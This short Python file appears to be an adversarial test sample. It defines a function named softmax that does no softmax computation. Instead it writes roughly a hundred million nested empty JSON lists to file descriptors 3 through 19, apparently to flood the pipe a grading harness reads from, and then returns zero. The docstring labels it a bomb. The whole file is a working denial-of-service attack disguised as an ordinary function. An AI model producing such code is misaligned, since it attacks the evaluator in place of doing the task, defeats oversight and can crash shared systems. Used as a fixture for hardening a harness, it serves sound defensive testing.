"""bombs: one answer of a hundred million lists."""

import os


def softmax(x):
    piece = b"[]," * 100_000
    for number in range(3, 20):
        try:
            os.write(number, b'{"kind": "value", "value": [')
            for _ in range(800):
                left = piece
                while left:
                    left = left[os.write(number, left):]
            os.write(number, b'[]]}\n')
        except OSError:
            pass
    return x * 0
